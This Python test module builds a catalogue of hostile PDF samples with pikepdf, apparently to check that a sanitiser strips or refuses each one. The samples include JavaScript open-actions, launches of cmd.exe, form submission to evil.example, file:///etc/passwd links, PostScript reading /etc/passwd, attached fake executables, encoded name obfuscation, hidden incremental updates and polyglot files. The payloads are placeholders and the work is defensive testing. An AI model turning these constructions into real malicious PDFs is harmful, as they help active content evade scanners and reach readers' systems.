"""PDF: everything that acts, embeds, or reaches outside, in every hiding place."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.core.hostile.sample import Sample
from tests.core.hostile.signing import signed

JS = "app.alert('x')"


def pdf(change=None, **saving):
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **saving)
    return out.getvalue()


def action(kind, **more):
    return Dictionary(S=Name(kind), **more)


def on_open(kind, **more):
    return lambda: pdf(lambda made: made.Root.update({"/OpenAction": action(kind, **more)}))


def on_link(kind, **more):
    def change(made):
        note = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action(kind, **more)
        )
        made.pages[0].Annots = Array([made.make_indirect(note)])

    return lambda: pdf(change)


def on_page(made):
    made.pages[0].AA = Dictionary(O=action("/JavaScript", JS=JS))


def named_script(made):
    tree = Dictionary(Names=Array([pikepdf.String("a"), action("/JavaScript", JS=JS)]))
    made.Root.Names = Dictionary(JavaScript=made.make_indirect(tree))


def chained(made):
    first = action("/GoTo", D=Array([made.pages[0].obj, Name.Fit]))
    first.Next = action("/Launch", F=pikepdf.String("cmd.exe"))
    made.Root.OpenAction = made.make_indirect(first)


def in_field(made):
    field = Dictionary(FT=Name.Tx, T=pikepdf.String("a"))
    field.AA = Dictionary(K=action("/JavaScript", JS=made.make_stream(JS.encode())))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def in_outline(made):
    item = Dictionary(Title=pikepdf.String("Mục lục"), A=action("/JavaScript", JS=JS))
    item = made.make_indirect(item)
    made.Root.Outlines = Dictionary(First=item, Last=item, Count=1)


def attached(made):
    made.attachments["virus.exe"] = b"MZ" + b"VIRUS" * 20


def attached_note(made):
    stream = made.make_stream(b"MZVIRUSVIRUS")
    spec = Dictionary(Type=Name.Filespec, F=pikepdf.String("a.exe"), EF=Dictionary(F=stream))
    note = Dictionary(Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=made.make_indirect(spec))
    made.pages[0].Annots = Array([note])


def portfolio(made):
    attached(made)
    made.Root.Collection = Dictionary(View=Name.T)


def form_data(made):
    made.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=made.make_stream(b"<xdp:xdp><script>run()</script></xdp:xdp>")
    )


def rich(kind):
    def change(made):
        content = Dictionary(Assets=made.make_stream(b"FWS-flash-film"))
        note = Dictionary(
            Type=Name.Annot, Subtype=Name(kind), Rect=[0, 0, 9, 9], RichMediaContent=content
        )
        made.pages[0].Annots = Array([note])

    return lambda: pdf(change)


def outside(made):
    stream = made.make_stream(b"inside")
    stream["/F"] = pikepdf.String("http://evil.example/a.bin")
    stream["/FFilter"] = Name.FlateDecode
    made.pages[0].Resources = Dictionary(XObject=Dictionary(A=stream))


def postscript(made):
    stream = made.make_stream(b"(/etc/passwd) (r) file", Type=Name.XObject, Subtype=Name.PS)
    made.pages[0].Resources = Dictionary(XObject=Dictionary(A=stream))


def locked(**rights):
    def make():
        rules = pikepdf.Encryption(**rights)
        return pdf(encryption=rules)

    return make


def spelled_oddly():
    plain = pdf(lambda made: made.Root.update({"/OpenAction": action("/JavaScript", JS=JS)}))
    return plain.replace(b"/JavaScript", b"/J#61v#61Script")


def added_later():
    """A harmless file, and behind it an update that replaces its catalogue."""
    first = pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    where = int(first[first.rindex(b"startxref") + 9 :].split()[0])
    update = (
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (evil) >> >>\n"
    )
    with pikepdf.open(io.BytesIO(first)) as opened:
        pages = opened.Root.Pages.objgen[0]
        number = opened.Root.objgen[0]
        size = len(opened.objects) + 1
    update = update.replace(b"1 0 obj", b"%d 0 obj" % number).replace(b"2 0 R", b"%d 0 R" % pages)
    update += b"endobj\n"
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, len(first))
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, number, where, len(first) + len(update),
    )  # fmt: skip
    return first + update + table + trailer


def packed_away():
    return pdf(named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)


SAMPLES = [
    Sample("a script on opening", "a.pdf", on_open("/JavaScript", JS=JS), gone=(b"app.alert",),
           neutralised=("open-action", "javascript")),
    Sample("a program started on opening", "a.pdf",
           on_open("/Launch", F=pikepdf.String("cmd.exe")), gone=(b"cmd.exe",),
           neutralised=("launch",)),
    Sample("a program behind a link", "a.pdf", on_link("/Launch", F=pikepdf.String("cmd.exe")),
           gone=(b"cmd.exe",), neutralised=("launch",)),
    Sample("a program chained behind a jump", "a.pdf", lambda: pdf(chained), gone=(b"cmd.exe",),
           neutralised=("launch", "open-action")),
    Sample("a form sent away", "a.pdf",
           on_link("/SubmitForm", F=pikepdf.String("http://evil.example")),
           gone=(b"evil.example",), neutralised=("submit-form",)),
    Sample("form data brought in", "a.pdf", on_link("/ImportData", F=pikepdf.String("x.fdf")),
           gone=(b"x.fdf",), neutralised=("submit-form",)),
    Sample("a jump to a file on a share", "a.pdf",
           on_link("/GoToR", F=pikepdf.String("\\\\evil\\share"), D=Array([0, Name.Fit])),
           gone=(b"evil",), neutralised=("remote-goto",)),
    Sample("a jump into an embedded file", "a.pdf",
           on_link("/GoToE", F=pikepdf.String("inner.pdf")), gone=(b"inner.pdf",),
           neutralised=("embedded-file",)),
    Sample("a link that is a script", "a.pdf",
           on_link("/URI", URI=pikepdf.String("javascript:alert(1)")), gone=(b"javascript:",),
           neutralised=("dangerous-link",)),
    Sample("a link to a file of the reader", "a.pdf",
           on_link("/URI", URI=pikepdf.String("file:///etc/passwd")), gone=(b"etc/passwd",),
           neutralised=("dangerous-link",)),
    Sample("a script on turning a page", "a.pdf", lambda: pdf(on_page), gone=(b"app.alert",),
           neutralised=("additional-actions", "javascript")),
    Sample("a script by name", "a.pdf", lambda: pdf(named_script), gone=(b"app.alert",),
           neutralised=("javascript",)),
    Sample("a script in an object stream", "a.pdf", packed_away, gone=(b"app.alert",),
           neutralised=("javascript",)),
    Sample("a script in a form field", "a.pdf", lambda: pdf(in_field), gone=(b"app.alert",),
           neutralised=("additional-actions",)),
    Sample("a script in the outline", "a.pdf", lambda: pdf(in_outline), gone=(b"app.alert",),
           neutralised=("javascript",)),
    Sample("a script spelled with codes", "a.pdf", spelled_oddly, gone=(b"app.alert",),
           neutralised=("javascript",)),
    Sample("a script added by an update", "a.pdf", added_later, gone=(b"evil",),
           neutralised=("javascript",)),
    Sample("a program attached", "a.pdf", lambda: pdf(attached), gone=(b"VIRUS", b"virus.exe"),
           neutralised=("embedded-file",)),
    Sample("a program attached to a note", "a.pdf", lambda: pdf(attached_note), gone=(b"VIRUS",),
           neutralised=("embedded-file",)),
    Sample("a portfolio", "a.pdf", lambda: pdf(portfolio), gone=(b"VIRUS", b"/Collection"),
           neutralised=("embedded-file",)),
    Sample("an XFA form", "a.pdf", lambda: pdf(form_data), gone=(b"/XFA", b"run()"),
           neutralised=("xfa",)),
    Sample("a flash film", "a.pdf", rich("/RichMedia"), gone=(b"flash",),
           neutralised=("rich-media",)),
    Sample("a 3D model", "a.pdf", rich("/3D"), gone=(b"flash",), neutralised=("rich-media",)),
    Sample("a screen that plays", "a.pdf", rich("/Screen"), gone=(b"flash",),
           neutralised=("rich-media",)),
    Sample("a stream that lies elsewhere", "a.pdf", lambda: pdf(outside), gone=(b"evil.example",),
           neutralised=("external-stream",)),
    Sample("PostScript inside", "a.pdf", lambda: pdf(postscript), gone=(b"etc/passwd",),
           neutralised=("postscript",)),
    Sample("a PDF with a password", "a.pdf", locked(user="mat-khau", owner="chu"),
           refused=("encrypted",)),
    Sample("a PDF with rights only", "a.pdf", locked(user="", owner="chu"),
           refused=("encrypted",)),
    Sample("a signed PDF with a script", "a.pdf",
           lambda: signed(pdf(named_script)), refused=("signed-active",)),
    Sample("a signed PDF with a program attached", "a.pdf", lambda: signed(pdf(attached)),
           refused=("signed-active",)),
    Sample("a signed PDF with an archive behind", "a.pdf",
           lambda: signed(pdf()) + b"PK\x05\x06" + bytes(18), refused=("disguised",)),
    Sample("a made-up signature over a script", "a.pdf", lambda: pdf(pretended),
           gone=(b"app.alert",), neutralised=("javascript",)),
    Sample("a page behind a PDF", "a.pdf", lambda: pdf() + b"<script>alert(1)</script>",
           neutralised=("trailing-data",), gone=(b"<script",)),
    Sample("an archive behind a PDF", "a.pdf", lambda: pdf() + b"PK\x05\x06" + bytes(18),
           neutralised=("trailing-data",), gone=(b"PK\x05\x06",)),
    Sample("a PDF that begins late", "a.pdf", lambda: b"GIF or what\n" + pdf(),
           refused=("disguised", "not-text", "wrong-kind")),
    Sample("a page before a PDF", "a.pdf", lambda: b"<html><script>1</script>" + pdf(),
           refused=("disguised",)),
    Sample("a PDF cut off", "a.pdf", lambda: pdf()[:-40], refused=("unreadable",)),
    Sample("a PDF of noise", "a.pdf", lambda: b"%PDF-1.7\n" + bytes(900) + b"%%EOF",
           refused=("unreadable",)),
]  # fmt: skip


def pretended(made):
    named_script(made)
    made.Root.Perms = Dictionary(
        DocMDP=Dictionary(
            Type=Name.Sig, ByteRange=Array([0, 10, 20, 30]), Contents=pikepdf.String("00")
        )
    )
